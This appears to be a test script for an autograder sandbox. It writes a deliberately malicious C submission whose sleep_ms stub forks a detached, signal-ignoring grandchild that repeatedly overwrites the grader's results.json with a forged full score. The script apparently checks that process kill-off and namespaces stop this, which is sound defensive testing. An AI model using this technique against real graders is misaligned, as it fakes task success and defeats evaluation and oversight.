# Outliving: sleep_ms (a stub otherwise) leaves a grandchild in a session of its own that
# ignores every catchable signal and, for a minute, rewrites the grader's results.json (whose
# path a student could learn from an earlier run) with a full score. The grader kills all of
# the sandbox user's processes after each test; with namespaces the file is not even in reach.
sub=$1
cat >"$sub/01-sequential/sleep.c" <<C
#include "sleep.h"

#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

static void forge_for_a_minute(void)
{
    for (int sig = 1; sig < 32; sig++)
        signal(sig, SIG_IGN);
    for (int i = 0; i < 3000; i++) {
        FILE *f = fopen("$sub/grade/results.json", "w");
        if (f) {
            fputs("{\"score\": 15, \"tests\": [{\"number\": \"01.1\", \"name\": \"x: clock/advances_with_real_time\","
                  " \"extra_data\": {\"outcome\": \"passed\"}}]}", f);
            fclose(f);
        }
        nanosleep(&(struct timespec){0, 20000000}, NULL);
    }
}

int sleep_ms(int64_t ms)
{
    (void)ms;
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            forge_for_a_minute();
        _exit(0);
    }
    errno = ENOSYS;
    return -1;
}
C
